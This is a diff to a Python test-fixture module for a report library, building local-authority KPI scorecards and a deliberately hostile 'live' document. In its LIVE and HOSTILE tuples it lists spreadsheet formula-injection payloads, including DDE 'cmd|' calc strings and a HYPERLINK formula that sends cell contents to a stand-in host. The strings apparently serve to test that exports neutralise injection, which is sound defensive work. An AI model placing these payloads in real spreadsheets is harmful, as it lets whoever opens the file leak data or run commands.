@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
+from decimal import Decimal
+
 from pmf.page.document import (
     Block,
     BulletList,
@@ -34,6 +37,34 @@ HOSTILE = (
     "=cmd|' /C calc'!A0",
     "& < > \" ' ]]> <!-- -->",
     "]; w:p </w:t>",
+)
+
+# What a spreadsheet, or a library that writes one, may take for more than text.
+LIVE = (
+    '=HYPERLINK("http://steal.example.org/?"&A1,"Click")',
+    "{=SUM(1+1)}",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "＝1+1",
+    "＋1",
+    "\t=1+1",
+    "   =1+1",
+    "http://steal.example.org/",
+    "mailto:someone@example.org",
+    "internal:'Cover'!A1",
+    "[report](http://steal.example.org/)",
+    "[a](http://a.example.org) and [b](http://b.example.org)",
+    "$$note$$",
+    "costs $$5 and $$6",
+    "???",
+    "–––",
+    "_x0041_",
+    "1e5",
+    "007",
+    "TRUE",
+    "#N/A",
+    "'already quoted",
 )
 
 SCORECARD_COLUMNS = (
@@ -75,6 +106,13 @@ _COMMENTS = (
 _POINTS = (61.0, 63.5, 62.0, 66.0, 65.0, None, 70.0, 72.5, 71.0, 73.0, 71.0, 75.0)
 
 
+def figure(words: str) -> Cell:
+    """A figure as reports print it, with its number; a dash counts none."""
+    unit = next((sign for sign in ("%", "£") if sign in words), "")
+    number = Decimal(words.strip("%£").replace(",", "").replace("–", "0").replace("−", "-"))
+    return Cell(words, value=number, unit=unit)
+
+
 def _scorecard_row(index: int) -> tuple[Cell, ...]:
     title, direction, target, current, previous = _KPIS[index % len(_KPIS)]
     status = tuple(Status)[index % len(Status)]
@@ -85,10 +123,10 @@ def _scorecard_row(index: int) -> tuple[Cell, ...]:
         Cell("Local authority"),
         Cell("Quarterly" if index % 4 else "Monthly"),
         Cell("September 2024"),
-        Cell(target),
+        figure(target),
         Cell(f"{direction} is better", arrow="▲"),
-        Cell(current, note="provisional" if index % 7 == 3 else ""),
-        Cell(previous),
+        replace(figure(current), note="provisional" if index % 7 == 3 else ""),
+        figure(previous) if index % 9 else Cell("–"),
         Cell("Improving" if is_better else "Declining", arrow="↗" if is_better else "↘", icon="met" if is_better else "missed"),
         Cell(status.label, status=status),
         Cell(
@@ -106,6 +144,7 @@ def scorecard_table(rows: int) -> Table:
         SCORECARD_COLUMNS,
         tuple(_scorecard_row(index) for index in range(rows)),
         is_wide=True,
+        names=1,
     )
 
 
@@ -114,7 +153,7 @@ def scorecard() -> Document:
     counts = (("Red", "3", Status.RED), ("Amber", "3", Status.AMBER), ("Green", "2", Status.GREEN), ("Blue", "2", Status.BLUE))
     facts = Facts(
         (
-            *(Fact(label, figure, "of 10 rated", status) for label, figure, status in counts),
+            *(Fact(label, number, "of 10 rated", status, Decimal(number)) for label, number, status in counts),
             Fact("Contextual", "2"),
             Fact("KPIs in all", "25"),
         )
@@ -237,7 +276,9 @@ def _main_issues() -> tuple[Block, ...]:
         Table(
             "Indicators by status, quarter 2 2024/25",
             (Column("Status", width=2.0), Column("Number of KPIs", is_number=True), Column("Percentage of KPIs", is_number=True)),
-            tuple((Cell(word, status=Status(word.lower())), Cell(number), Cell(share)) for word, number, share in rows),
+            tuple(
+                (Cell(word, status=Status(word.lower())), figure(number), replace(figure(share), unit="%")) for word, number, share in rows
+            ),
         ),
         Heading("Indicators for commentary", number="3.2"),
         paragraph("There is 1 Red indicator for commentary this quarter:", number="3.2.1"),
@@ -308,4 +349,23 @@ def hostile() -> Document:
         sections=(Section(f"Section {everything}", blocks, number="1"),),
         footer=f"Footer {everything}",
         banner=f"Banner {everything}",
+    )
+
+
+def live() -> Document:
+    """A document whose every text tries to come to life in a spreadsheet, alone in its cell."""
+    table = Table(
+        "Comments",
+        (Column("KPI"), Column("Figure", is_number=True), Column("Commentary"), Column("kpi")),
+        tuple((Cell(f"KPI {number}"), figure(f"{number}"), Cell(words, note=words), Cell("same")) for number, words in enumerate(LIVE, 1)),
+    )
+    blocks = (table, *(paragraph(words) for words in LIVE), *(replace(table, caption=words, rows=table.rows[:1]) for words in LIVE))
+    return Document(
+        title=LIVE[0],
+        organisation=LIVE[-1],
+        subtitle=LIVE[12],
+        header=tuple((words, words) for words in LIVE),
+        sections=(Section("Comments", blocks), *(Section(words, (paragraph("Nothing."),)) for words in LIVE)),
+        footer=LIVE[13],
+        banner=LIVE[14],
     )
